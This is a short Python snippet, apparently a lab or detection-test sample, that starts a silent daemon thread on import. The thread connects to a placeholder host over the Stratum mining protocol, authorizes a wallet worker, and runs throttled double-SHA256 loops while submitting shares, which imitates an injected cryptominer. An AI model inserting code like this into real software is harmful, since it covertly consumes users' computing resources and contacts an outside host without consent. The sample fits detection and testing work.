import threading
def mine():
    import hashlib, json, os, socket, time
    s = socket.create_connection(("$HOST", $PORT))
    f = s.makefile("rw")
    def say(i, method, *params):
        f.write(json.dumps({"id": i, "method": method, "params": list(params)}, separators=(",", ":")) + "\n")
        f.flush()
    say(1, "mining.subscribe", "labminer/1.0 pid=%d mode=inproc" % os.getpid())
    f.readline()
    say(2, "mining.authorize", "wallet.worker1", "x")
    n, end = 0, time.monotonic() + 8
    while time.monotonic() < end:
        turn = time.monotonic() + 0.03
        while time.monotonic() < turn:
            hashlib.sha256(hashlib.sha256(n.to_bytes(80, "little")).digest()).digest()
            n += 1
        time.sleep(0.03)
        say(n % 1000, "mining.submit", "wallet.worker1", "1", "%016x" % n)
    time.sleep(3600)
threading.Thread(target=mine, daemon=True).start()
